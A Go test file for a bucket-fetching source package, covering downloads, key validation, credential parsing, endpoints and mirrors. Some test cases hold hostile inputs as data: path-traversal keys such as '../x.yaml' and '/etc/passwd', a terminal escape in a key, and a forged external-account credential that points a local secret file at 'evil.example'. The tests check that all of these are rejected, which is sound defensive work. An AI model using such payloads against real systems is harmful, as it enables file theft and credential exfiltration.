package bucket_test

import (
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/bowline-dev/bowline/internal/failure"
	"github.com/bowline-dev/bowline/internal/source/bucket"
	"github.com/bowline-dev/bowline/internal/source/reach"
	"github.com/bowline-dev/bowline/internal/testkit/buckettest"
)

func googleRequest(s *buckettest.GoogleServer, change ...func(*bucket.Request)) bucket.Request {
	r := bucket.Request{Provider: bucket.Google, Bucket: s.Bucket, Endpoint: s.Endpoint(), Insecure: true, For: "me", Timeout: 20 * time.Second}
	for _, c := range change {
		c(&r)
	}
	return r
}

func TestGoogle(t *testing.T) {
	t.Parallel()
	s := buckettest.NewGoogle(t)
	store := newStore(t)
	files := map[string]string{"a.yaml": "1", "app/b.yaml": "2", "app/deep/c.yaml": "3"}
	s.Put(files)
	first := fetched(t, store, googleRequest(s))
	if got := filesOf(t, first.Tree); !maps.Equal(got, files) {
		t.Errorf("the tree has %v", got)
	}
	s.Put(map[string]string{"a.yaml": "new"})
	s.Delete("app/b.yaml")
	second := fetched(t, store, googleRequest(s))
	if got := filesOf(t, second.Tree); !maps.Equal(got, map[string]string{"a.yaml": "new", "app/deep/c.yaml": "3"}) {
		t.Errorf("the tree has %v", got)
	}
	if n := len(s.Reads()); n != 4 || second.Revision == first.Revision {
		t.Errorf("downloaded %v", s.Reads())
	}
	once := true
	s.OnRead(func(string) {
		if once {
			once = false
			s.Put(map[string]string{"a.yaml": "later"})
		}
	})
	s.Put(map[string]string{"a.yaml": "soon"})
	if got := filesOf(t, fetched(t, store, googleRequest(s)).Tree); got["a.yaml"] != "later" {
		t.Errorf("the tree has %v", got)
	}
	_, err := store.Fetch(t.Context(), googleRequest(s, func(r *bucket.Request) { r.Bucket = "missing" }))
	if !isKind(err, failure.NotFound, "there is no such bucket", "spec.bucketName") {
		t.Errorf("no bucket: %v", err)
	}
}

// Keys are what somebody wrote: those that are no paths are refused by name, unless a rule leaves them out.
func TestKeys(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, reason string
		keys         []string
		word         string
	}{
		{"above", "it would lead out of the tree", []string{"../x.yaml"}, `"../x.yaml"`},
		{"above in the middle", "", []string{"a/../../x.yaml"}, ". or .."},
		{"here", "it would be another object's path", []string{"a/./x.yaml"}, ". or .."},
		{"root", "", []string{"/etc/passwd"}, "slash"},
		{"empty part", "it would be another object's path", []string{"a//x.yaml"}, "empty part"},
		{"control characters", "they make messages lie", []string{"a\x1b[2J.yaml"}, "characters"},
		{"file and folder", "it cannot be both", []string{"a", "a/b"}, `"a"`},
		{"deep", "each level costs a folder", []string{strings.Repeat("a/", 129) + "b"}, "more than 128 folders"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			s := buckettest.NewGoogle(t)
			s.Put(map[string]string{"good.yaml": "1"})
			for _, key := range tc.keys {
				s.Put(map[string]string{key: "x"})
			}
			_, err := newStore(t).Fetch(t.Context(), googleRequest(s))
			if !isKind(err, failure.Invalid, tc.word, "spec.ignore") {
				t.Errorf("%s: %v", tc.reason, err)
			}
			rules := "*\n!good.yaml\n"
			a := fetched(t, newStore(t), googleRequest(s, func(r *bucket.Request) { r.Ignore = &rules }))
			if got := slices.Collect(maps.Keys(filesOf(t, a.Tree))); len(got) != 1 {
				t.Errorf("with a rule the tree has %v", got)
			}
		})
	}
	t.Run("stands for a folder", func(t *testing.T) {
		t.Parallel()
		s := buckettest.NewGoogle(t)
		s.Put(map[string]string{"a": "", "a/b": "1", "c/": "", "empty": ""})
		if got := filesOf(t, fetched(t, newStore(t), googleRequest(s)).Tree); !maps.Equal(got, map[string]string{"a/b": "1", "empty": ""}) {
			t.Errorf("the tree has %v", got)
		}
	})
}

func TestLoginFromSecret(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, reason, provider string
		data                   map[string]string
		word                   string
	}{
		{"half a pair", "", bucket.Generic, map[string]string{"accesskey": "a"}, "secretkey"},
		{"nothing", "", bucket.AWS, nil, "accesskey"},
		{"no key of an account", "", bucket.Google, map[string]string{"other": "x"}, "serviceaccount"},
		{"no JSON", "the parser's words would show it", bucket.Google, map[string]string{"serviceaccount": "top-secret"}, "no key of a service account"},
		{"a file of this machine", "its content would be sent to whom the tenant says", bucket.Google,
			map[string]string{"serviceaccount": `{"type":"external_account","audience":"a","subject_token_type":"urn:ietf:params:oauth:token-type:jwt","token_url":"https://evil.example","credential_source":{"file":"/etc/top-secret"}}`}, "service_account"},
		{"no way in", "", bucket.Azure, map[string]string{"tenantId": "x"}, "clientId"},
	} {
		data := map[string][]byte{}
		for k, v := range tc.data {
			data[k] = []byte(v)
		}
		_, err := bucket.LoginFromSecret(tc.provider, data)
		if !isKind(err, failure.Invalid, tc.word, "spec.secretRef") || strings.Contains(err.Error(), "top-secret") {
			t.Errorf("%s: %v: %s", tc.name, err, tc.reason)
		}
	}
}

func TestEndpoints(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, provider, bucket, endpoint, word string }{
		{"nothing", bucket.Generic, "b", "", "it is empty"},
		{"scheme", bucket.Generic, "b", "https://s3.example.com", "spec.insecure says"},
		{"path", bucket.AWS, "b", "s3.example.com/b", "it has a path"},
		{"user", bucket.Generic, "b", "ann:top-secret@s3.example.com", "spec.secretRef"},
		{"nonsense", bucket.Generic, "b", "a b c", "no address"},
		{"name", bucket.Generic, "b/c", "s3.example.com", "spec.bucketName"},
		{"no scheme", bucket.Azure, "b", "x.blob.core.windows.net", "https://<account>"},
		{"no TLS", bucket.Azure, "b", "http://x.blob.core.windows.net", "set spec.insecure"},
		{"provider", "oracle", "b", "x", "spec.provider"},
	} {
		_, err := newStore(t).Fetch(t.Context(), bucket.Request{Provider: tc.provider, Bucket: tc.bucket, Endpoint: tc.endpoint})
		if !isKind(err, failure.Invalid, tc.word) || strings.Contains(err.Error(), "top-secret") {
			t.Errorf("%s: %v", tc.name, err)
		}
	}
}

// A mirror takes the place of a server, or of one bucket.
func TestMirrors(t *testing.T) {
	t.Parallel()
	s := buckettest.NewS3(t)
	s.Put(map[string]string{"a": "1"})
	for _, tc := range []struct{ name, from, to, bucket string }{
		{"server", "https://s3.example.com/", s.URL() + "/", s.Bucket},
		{"bucket", "https://s3.example.com/charts", s.URL() + "/" + s.Bucket, "charts"},
	} {
		store := newStore(t, func(o *bucket.Options) { o.Mirrors = []reach.Mirror{{From: tc.from, To: tc.to}} })
		a := fetched(t, store, s3Request(s, func(r *bucket.Request) { r.Endpoint, r.Insecure, r.Bucket = "s3.example.com", false, tc.bucket }))
		if filesOf(t, a.Tree)["a"] != "1" {
			t.Errorf("%s: nothing", tc.name)
		}
	}
	broken := newStore(t, func(o *bucket.Options) { o.Mirrors = []reach.Mirror{{From: "https://s3.example.com/b", To: s.URL()}} })
	_, err := broken.Fetch(t.Context(), bucket.Request{Provider: bucket.Generic, Bucket: "b", Endpoint: "s3.example.com"})
	if !isKind(err, failure.Invalid, "names no bucket", "--mirror") {
		t.Errorf("a mirror without a bucket: %v", err)
	}
}
